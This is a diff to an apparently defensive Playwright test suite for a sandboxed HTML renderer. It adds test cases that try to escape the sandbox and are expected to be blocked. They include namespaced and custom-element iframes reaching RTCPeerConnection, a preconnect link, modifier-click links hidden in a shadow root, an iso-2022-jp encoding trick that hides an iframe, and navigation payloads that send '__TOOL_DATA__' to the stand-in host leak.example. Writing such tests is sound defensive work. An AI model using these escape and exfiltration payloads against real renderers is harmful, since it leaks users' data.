@@ -77,6 +77,19 @@ WAYS: Final = {
         f"{MAKE} f.src = URL.createObjectURL(new Blob([INNER], {{ type: 'text/html' }})); {ADD}"
     ),
     "empty frame": f"{MAKE} {ADD} new f.contentWindow.RTCPeerConnection(); reach()",
+    "element of a name space": (
+        "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:IFRAME');"
+        f" {ADD} new f.contentWindow.RTCPeerConnection(); reach()"
+    ),
+    "element of a class": (
+        "customElements.define('a-b', class extends HTMLIFrameElement {}, { extends: 'iframe' });"
+        " const f = new (customElements.get('a-b'))();"
+        f" {ADD} new f.contentWindow.RTCPeerConnection(); reach()"
+    ),
+    "link that asks ahead": (
+        "document.body.innerHTML = '<link rel=preconnect href=http://leak.example>';"
+        " if (document.querySelector('link')) reach(); document.createElement('link'); reach()"
+    ),
     "policy": "trustedTypes.createPolicy('default', { createHTML: (x) => x }); reach()",
 }
 
@@ -141,10 +154,48 @@ def test_pages_may_make_markup_and_scripts(browser: Browser) -> None:
     page.close()
 
 
+@pytest.mark.parametrize("modifier", ["Control", "Shift", "Alt", "middle"])
+def test_click_that_opens_a_link_elsewhere_does_nothing(browser: Browser, modifier: str) -> None:
+    work = (
+        "const h = document.createElement('p'); h.attachShadow({ mode: 'closed' }).innerHTML ="
+        " '<a href=http://leak.example/>there</a>'; document.body.append(h);"
+        " MouseEvent.prototype.preventDefault = Event.prototype.preventDefault = () => {}"
+    )
+    page = show(browser, make_page(work))
+    asked = list[str]()
+    page.context.on("request", lambda request: asked.append(request.url))
+    box = page.locator("p").bounding_box()
+    assert box is not None
+    x, y = box["x"] + 10, box["y"] + 8
+    if modifier == "middle":
+        page.mouse.click(x, y, button="middle")
+    else:
+        page.keyboard.down(modifier)
+        page.mouse.click(x, y)
+        page.keyboard.up(modifier)
+    assert page.evaluate(SETTLED) == []
+    assert (asked, len(page.context.pages)) == ([], 1)
+    page.close()
+
+
+def test_file_of_another_encoding_hides_no_frame(browser: Browser, tmp_path: Path) -> None:
+    hidden = f'<ifr\x1b(Bame srcdoc="{INNER}"></iframe>'
+    made = insert_data(
+        f'<head><meta charset="iso-2022-jp"></head><body>{hidden}</body>'.encode(), 1
+    )
+    (tmp_path / "page.html").write_bytes(made)
+    page = browser.new_page()
+    page.goto((tmp_path / "page.html").as_uri())
+    page.wait_for_load_state()
+    assert len(page.frames) == 1
+    page.close()
+
+
 @pytest.mark.parametrize(
     "work",
     [
         "location.href = 'http://leak.example/?' + __TOOL_DATA__",
+        "open('http://leak.example/?' + __TOOL_DATA__)",
         "navigation.onnavigate = (e) => e.stopImmediatePropagation(); location.assign('//leak.example')",  # noqa: E501 - a line of script
         "Event.prototype.preventDefault = () => {}; location.replace('http://leak.example/')",
         "const a = document.createElement('a'); a.href = 'http://leak.example/'; document.body.append(a); a.click()",  # noqa: E501 - a line of script
